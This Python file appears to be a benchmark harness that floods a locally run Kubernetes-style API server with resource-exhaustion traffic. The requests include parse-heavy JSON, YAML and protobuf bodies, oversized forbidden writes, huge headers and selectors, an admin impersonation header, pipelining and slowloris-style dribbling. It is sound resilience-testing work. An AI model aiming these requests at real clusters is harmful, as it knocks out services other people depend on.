"""Requests with which a user without rights can keep a hub busy, and the process that sends them.

    python -m benchmarks.hub.attacks NAME --port PORT --token TOKEN --connections 16 --seconds 30

Requests are built once, so that the sender uses little of the shared CPU.
"""

import argparse
import asyncio
import contextlib
import json
import ssl
import time
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from itertools import cycle
from typing import Final

ACCESS: Final = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"
RULES: Final = "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"
SELF: Final = "/apis/authentication.k8s.io/v1/selfsubjectreviews"
REVIEWS: Final = 64 * 1024
"""Maximum bytes of a review; the worst accepted bodies are slightly smaller."""

JSON: Final = "application/json"
YAML: Final = "application/yaml"
PROTOBUF: Final = "application/vnd.kubernetes.protobuf"

Requests = Callable[[str], list[bytes]]
"""Returns the requests that each connection sends in turn, for a bearer token."""


def request(
    token: str,
    method: str,
    path: str,
    body: bytes = b"",
    *,
    type_: str = JSON,
    headers: Mapping[str, str] | None = None,
) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: hub", f"Authorization: Bearer {token}"]
    lines += [f"{name}: {value}" for name, value in (headers or {}).items()]
    if body:
        lines += [f"Content-Type: {type_}", f"Content-Length: {len(body)}"]
    return "\r\n".join([*lines, "", ""]).encode() + body


def _filled(head: bytes, part: bytes, tail: bytes, size: int) -> bytes:
    return head + part * ((size - len(head) - len(tail)) // len(part)) + tail


def _keys(size: int) -> bytes:
    parts: list[bytes] = []
    length = 0
    while length < size - 32:
        parts.append(b'"%x":1' % len(parts))
        length += len(parts[-1]) + 1
    return b'{"spec":{' + b",".join(parts) + b"}}"


def _nested(size: int) -> bytes:
    deep = b"[" * 100 + b"]" * 100
    return _filled(b'{"a":[0', b"," + deep, b"]}", size)


def _bodies(size: int) -> Iterator[tuple[bytes, str]]:
    """Return JSON, YAML and protobuf bodies of ``size`` bytes that take the longest to parse."""
    yield _filled(b'{"a":[1', b",1e308", b"]}", size), JSON
    yield _filled(b'{"a":[1', b",4.9e-324", b"]}", size), JSON
    yield _filled(b'{"a":[1', b",1", b"]}", size), JSON
    yield _filled(b'{"a":[{}', b",{}", b"]}", size), JSON
    yield _filled(b'{"a":"', rb"\u00e9", b'"}', size), JSON
    yield _filled(b'{"a":', b"9", b"}", size), JSON
    yield _filled(b'{"a":1', b',"a":1', b"}", size), JSON
    yield _keys(size), JSON
    yield _nested(size), JSON
    yield _filled(b"a:\n", b"- 1\n", b"", size), YAML
    yield _filled(b"a: [1", b",1", b"]", size), YAML
    yield _filled(b"b: &b {a: 1}\na: [1", b",*b", b"]", size), YAML
    yield _filled(b'a: "', b"\\n\\\n ", b'"', size), YAML
    yield _filled(b"a: 1", b" #\n", b"\n", size), YAML
    yield b"k8s\x00" + _filled(b"\x12\xff\xff\x03", b"\x0a\x00", b"", size), PROTOBUF


def _reviews(size: int) -> Requests:
    def made(token: str) -> list[bytes]:
        strict = f"{ACCESS}?fieldValidation=Strict"
        return [
            request(token, "POST", path, body, type_=type_)
            for body, type_ in _bodies(size)
            for path in (ACCESS, strict, SELF)
        ]

    return made


def _h1(token: str) -> list[bytes]:
    return [request(token, "POST", ACCESS, b'{"a":[' + b"1e308," * 90_000 + b"1]}")]


def _valid_reviews(token: str) -> list[bytes]:
    attributes = {"verb": "get", "resource": "pods", "name": "x" * 1000}
    bodies: list[tuple[str, object]] = [
        (ACCESS, {"spec": {"resourceAttributes": {**attributes, "namespace": f"n{number}"}}})
        for number in range(50)
    ]
    bodies += [(RULES, {"spec": {"namespace": f"n{number}"}}) for number in range(50)]
    bodies.append((SELF, {}))
    return [request(token, "POST", path, json.dumps(body).encode()) for path, body in bodies]


def _writes(token: str) -> list[bytes]:
    """Return writes, all of them forbidden."""
    large = _filled(b'{"a":[1', b",1e308", b"]}", 3_000_000)
    secrets = "/api/v1/namespaces/default/secrets"
    patches = ("json-patch+json", "merge-patch+json", "strategic-merge-patch+json", "apply-patch+yaml")
    return [
        request(token, "POST", secrets, large),
        request(token, "PUT", f"{secrets}/a", large),
        *(
            request(token, "PATCH", f"{secrets}/a", large, type_=f"application/{subtype}")
            for subtype in patches
        ),
        request(token, "POST", "/apis/authentication.k8s.io/v1/tokenreviews", large),
        request(token, "POST", "/apis/authorization.k8s.io/v1/subjectaccessreviews", large),
        request(token, "PUT", "/apis/coordination.k8s.io/v1/namespaces/default/leases/a", large),
    ]


def _reads(token: str) -> list[bytes]:
    """Return reads, all of them forbidden, with the longest accepted selectors, paths and headers."""
    long = "a" * 15_000
    many = ",".join(f"a{number}!=b" for number in range(1_500))
    headers = {f"X-{number}": "v" * 900 for number in range(100)}
    groups = {f"Impersonate-Extra-{number}": "v" * 100 for number in range(100)}
    return [
        request(token, "GET", f"/api/v1/pods?labelSelector={many}"),
        request(token, "GET", f"/api/v1/pods?fieldSelector={many}"),
        request(token, "GET", f"/api/v1/pods?{'&'.join(f'a{n}=b' for n in range(2_500))}"),
        request(token, "GET", f"/api/v1/namespaces/{long}/pods"),
        request(token, "GET", f"/apis/{'%41' * 5_000}"),
        request(token, "GET", "/" + "/".join("a" * 7_500)),
        request(token, "GET", "/api/v1/pods", headers=headers),
        request(token, "GET", "/api/v1/pods", headers={"Impersonate-User": "admin", **groups}),
        request(token, "GET", "/api/v1/pods", headers={"Accept": "a/b," * 7_000}),
        request(token, "GET", "/api/v1/pods?watch=true&resourceVersion=0"),
    ]


def _documents(token: str) -> list[bytes]:
    aggregated = "application/json;g=apidiscovery.k8s.io;v=v2;as=APIGroupDiscoveryList"
    protobuf = "application/com.github.proto-openapi.spec.v2@v1.0+protobuf"
    return [
        request(token, "GET", "/openapi/v2"),
        request(token, "GET", "/openapi/v2", headers={"Accept": protobuf}),
        request(token, "GET", "/openapi/v3"),
        request(token, "GET", "/openapi/v3/api/v1", headers={"Accept-Encoding": "gzip"}),
        request(token, "GET", "/openapi/v3/apis/apps/v1"),
        request(token, "GET", "/apis", headers={"Accept": aggregated}),
        request(token, "GET", "/api/v1"),
    ]


def _strangers(token: str) -> list[bytes]:
    """Return requests with invalid credentials."""
    del token
    encoded = "eyJhbGciOiJSUzI1NiIsImtpZCI6IngifQ." + "eyJpc3MiOiJodWIifQ" * 500 + "." + "A" * 342
    return [
        request(bearer, "GET", path)
        for bearer in (encoded, "abcdef.0123456789abcdef", "x" * 30_000)
        for path in ("/api/v1/pods", "/readyz")
    ]


ATTACKS: Final[Mapping[str, Requests]] = {
    "540 KB of numbers as a review": _h1,
    "reviews just below the limit": _reviews(REVIEWS - 16),
    "reviews of 3 MB": _reviews(3_000_000),
    "small reviews": _valid_reviews,
    "writes of 3 MB that are refused": _writes,
    "reads with long heads": _reads,
    "discovery and OpenAPI": _documents,
    "wrong credentials": _strangers,
}
"""Attacks by name. Each connection sends one request after the other and reads the responses."""
PIPELINED: Final = "pipelined requests"
RECONNECTING: Final = "new connections"
SLOW: Final = "slow senders"
MIXED: Final = "all of these at once"
NAMES: Final = (*ATTACKS, PIPELINED, RECONNECTING, SLOW, MIXED)
_AT_ONCE: Final = 500


class Attacker:
    def __init__(self, *, port: int, token: str, until: float) -> None:
        self._port, self._token, self._until = port, token, until
        self._trust = ssl.create_default_context()
        self._trust.check_hostname, self._trust.verify_mode = False, ssl.CERT_NONE
        self.codes: Counter[str] = Counter()

    async def run(self, name: str, number: int) -> None:
        """Send requests over one connection, and open it again if the hub closes it."""
        if name == MIXED:
            name = NAMES[number % (len(NAMES) - 1)]
        requests = ATTACKS[name](self._token) if name in ATTACKS else _reads(self._token)
        turns = cycle(requests[number % len(requests) :] + requests[: number % len(requests)])
        while time.monotonic() < self._until:
            with contextlib.suppress(OSError, EOFError, ssl.SSLError, TimeoutError):
                async with asyncio.timeout_at(
                    asyncio.get_running_loop().time() + self._until - time.monotonic()
                ):
                    await self._connected(name, turns)

    async def _connected(self, name: str, turns: Iterator[bytes]) -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", self._port, ssl=self._trust)
        try:
            if name == RECONNECTING:
                self.codes["handshake"] += 1
                return
            if name == SLOW:
                await self._dribble(writer)
                return
            if name == PIPELINED:
                await self._pipeline(reader, writer)
                return
            for turn in turns:
                sending = asyncio.ensure_future(_send(writer, turn))
                try:
                    self.codes[await _answer(reader)] += 1
                finally:
                    sending.cancel()
        finally:
            writer.transport.abort()

    async def _pipeline(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        burst = request(self._token, "GET", "/version") * _AT_ONCE
        while True:
            sending = asyncio.ensure_future(_send(writer, burst))
            try:
                for _ in range(_AT_ONCE):
                    self.codes[await _answer(reader)] += 1
            finally:
                sending.cancel()

    async def _dribble(self, writer: asyncio.StreamWriter) -> None:
        self.codes["slow"] += 1
        for byte in request(self._token, "POST", ACCESS, b" " * 60_000):
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.sleep(0.001)


async def _send(writer: asyncio.StreamWriter, data: bytes) -> None:
    with contextlib.suppress(OSError):
        for start in range(0, len(data), 65_536):
            writer.write(data[start : start + 65_536])
            await writer.drain()


async def _answer(reader: asyncio.StreamReader) -> str:
    """Read the next response and return its code. Raise EOFError if the hub closes the connection."""
    head = await reader.readuntil(b"\r\n\r\n")
    code, lowered = head.split(b" ", 2)[1].decode(), head.lower()
    if code == "304":
        return code
    if b"transfer-encoding: chunked" in lowered:
        await reader.readuntil(b"0\r\n\r\n")
    else:
        await reader.readexactly(int(lowered.partition(b"content-length:")[2].split(b"\r\n", 1)[0]))
    return code


async def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=NAMES)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--token", required=True)
    parser.add_argument("--connections", type=int, default=16)
    parser.add_argument("--seconds", type=float, default=30.0)
    asked = parser.parse_args()
    attacker = Attacker(port=asked.port, token=asked.token, until=time.monotonic() + asked.seconds)
    await asyncio.gather(*(attacker.run(asked.name, number) for number in range(asked.connections)))
    print(json.dumps(attacker.codes))


if __name__ == "__main__":
    asyncio.run(main())
